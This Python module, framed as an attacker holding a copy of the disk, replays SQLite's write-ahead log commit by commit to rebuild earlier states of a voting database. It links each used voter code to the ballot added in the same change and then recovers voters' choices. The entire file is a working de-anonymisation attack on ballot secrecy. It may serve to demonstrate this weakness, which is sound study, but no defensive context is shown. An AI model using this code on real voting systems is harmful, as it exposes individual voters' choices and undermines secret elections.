"""An attacker with a copy of the disk: replays SQLite's log, change by change, and links codes with choices.

The log keeps every version of every page. Replaying it up to each commit gives the database as it was at that moment.
The difference between two moments shows which code was used together with which ballot. What is left to find is the
choice.
"""

import shutil
import sqlite3
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

HEADER, FRAME = 32, 24


def moments(stolen: Path, scratch: Path) -> Iterator[sqlite3.Connection]:
    """The database after each commit that the log still holds, oldest first. `stolen` has the log beside it."""
    log = stolen.with_name(stolen.name + "-wal").read_bytes()
    size = struct.unpack(">I", log[8:12])[0]
    salts = log[16:24]
    replayed = scratch / "replayed.db"
    shutil.copy(stolen, replayed)
    with replayed.open("r+b") as file:
        file.seek(18)
        file.write(b"\x01\x01")  # a plain file from now on, without a log
    for start in range(HEADER, len(log) - FRAME - size + 1, FRAME + size):
        number, pages = struct.unpack(">II", log[start : start + 8])
        if log[start + 8 : start + 16] != salts:
            return
        with replayed.open("r+b") as file:
            file.seek((number - 1) * size)
            file.write(log[start + FRAME : start + FRAME + size])
            if number == 1:
                file.seek(18)
                file.write(b"\x01\x01")
        if pages:
            connection = sqlite3.connect(f"file:{replayed}?mode=ro&immutable=1", uri=True)
            yield connection
            connection.close()


@dataclass(frozen=True)
class Schema:
    """Where a vote keeps its codes and its ballots."""

    used_codes: str
    """A query for the codes that were used."""
    ballots: str
    """A query for (id of the ballot, what it holds)."""


def pairs(stolen: Path, scratch: Path, schema: Schema) -> dict[str, bytes]:
    """{code: what the ballot holds that came into the box in the same change}."""
    found: dict[str, bytes] = {}
    used: set[str] = set()
    cast: dict[str, bytes] = {}
    for moment in moments(stolen, scratch):
        try:
            used_now = {str(code) for (code,) in moment.execute(schema.used_codes)}
            cast_now = {str(key): held for key, held in moment.execute(schema.ballots)}
        except sqlite3.OperationalError:
            continue  # the tables are not there yet
        new_codes, new_ballots = used_now - used, cast_now.keys() - cast.keys()
        if len(new_codes) == len(new_ballots) == 1:
            held = cast_now[new_ballots.pop()]
            found[new_codes.pop()] = held.encode() if isinstance(held, str) else held
        used, cast = used_now, cast_now
    return found


def guesses(linked: dict[str, bytes], read: Callable[[bytes], str | None]) -> dict[str, str]:
    """{code: choice} wherever the attacker can read what a ballot holds."""
    return {code: choice for code, held in linked.items() if (choice := read(held)) is not None}
